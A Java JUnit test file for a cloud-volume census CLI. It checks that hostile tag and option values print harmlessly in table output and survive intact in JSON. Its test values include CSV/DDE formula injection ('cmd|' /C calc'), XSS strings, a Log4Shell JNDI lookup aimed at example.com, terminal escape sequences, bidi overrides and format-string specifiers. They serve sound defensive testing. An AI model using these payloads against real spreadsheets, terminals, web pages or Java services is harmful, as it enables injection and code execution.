package ebscensus.cli;

import static org.assertj.core.api.Assertions.assertThat;

import ebscensus.core.census.Labels;
import ebscensus.core.request.Dimension;
import ebscensus.report.Cells;
import ebscensus.report.ReportReader;
import ebscensus.simulator.fleet.FleetShape;
import ebscensus.simulator.fleet.Simulation;
import ebscensus.simulator.protocol.Simulator;
import ebscensus.simulator.protocol.SimulatorOptions;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Tag values that attack whoever looks at them. There are two formats to write them in, a table and JSON; a table is for eyes, so
 * what would be a formula in a spreadsheet is text in it, with nothing before it that a program would have to take away.
 */
class HostileNamesTest {
    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.com\",\"sum\")",
                "+1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)",
                "\tindented",
                "\rover the line before",
                "two\nlines",
                "\u009b2J\u009b31mred",
                "\u202eright to left",
                "zero\u200bwidth",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"},\"totals\":{\"volumes\":0",
                "\\u001b[31m",
                "(untagged)",
                "${jndi:ldap://example.com/x}",
                "%s%n%1$s"
            })
    void a_hostile_tag_value_is_one_harmless_row_of_the_table_and_itself_in_the_JSON(String value) {
        var shape = FleetShape.DEFAULT.withNastyTags(List.of(value));
        try (var simulator = Simulator.start(Simulation.of(1, 60).withShape(shape), SimulatorOptions.DEFAULT)) {
            String[] table = {"run", "--endpoint-url", simulator.endpoint().toString(), "--group-by", "tag:team"};
            String[] json = {
                "run", "--endpoint-url", simulator.endpoint().toString(), "--group-by", "tag:team", "--output", "json"
            };

            assertHarmless(Ran.census(table).out());
            String written = Ran.census(json).out();
            assertHarmless(written);
            var report = ReportReader.read(written.getBytes(StandardCharsets.UTF_8));
            assertThat(report.breakdowns().get(Dimension.tag("team"))).containsKey(Labels.ofValue(value));
        }
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {"--filter", "--group-by", "--region", "--account", "--role", "--tolerate", "--fault", "--out"})
    void an_option_that_attacks_the_terminal_is_refused_in_a_harmless_line(String option) {
        var ran = Ran.census("run", "--simulate", "1", option, "=\u001b[31m\u009b2J\u202e\r\n@x/../y");

        assertThat(ran.status()).isIn(ExitStatus.WRONG_USAGE, ExitStatus.FAILED);
        assertHarmless(ran.err());
        assertThat(ran.err().lines()).hasSizeLessThanOrEqualTo(2);
    }

    @Test
    void tags_of_any_unicode_are_harmless_in_the_table_and_whole_in_the_json() {
        var longest = "\uD83D\uDC18".repeat(256);
        var shape = FleetShape.DEFAULT.withNastyTags(
                List.of(longest, "<script>", "=1+1", "line\nfeed\u202E\u0085", "(several)", ""));
        try (var simulator = Simulator.start(Simulation.of(1, 500).withShape(shape), SimulatorOptions.DEFAULT)) {
            String[] table = {"run", "--endpoint-url", simulator.endpoint().toString(), "--group-by", "tag:team"};
            String[] json = {
                "run", "--endpoint-url", simulator.endpoint().toString(), "--group-by", "tag:team", "--output", "json"
            };

            assertThat(Ran.census(table).out())
                    .contains("<script>", "=1+1", "line\\u000afeed\\u202e\\u0085", "\n\\(several)", "\n(several)")
                    .doesNotContain("\u202E", "\u0085", longest);
            assertThat(Ran.census(table).out().lines())
                    .allSatisfy(line -> assertThat(Cells.width(line)).isLessThanOrEqualTo(80));
            assertThat(Ran.census(json).out())
                    .contains(longest, "\"line\\nfeed\\u202e\\u0085\"", "\"\\\\(several)\"", "\"\" : {")
                    .doesNotContain("\u202E", "\u0085");
        }
    }

    /** Nothing but what is seen, and line feeds. */
    private static void assertHarmless(String output) {
        assertThat(output).isNotEmpty().doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}&&[^\n]]");
    }
}
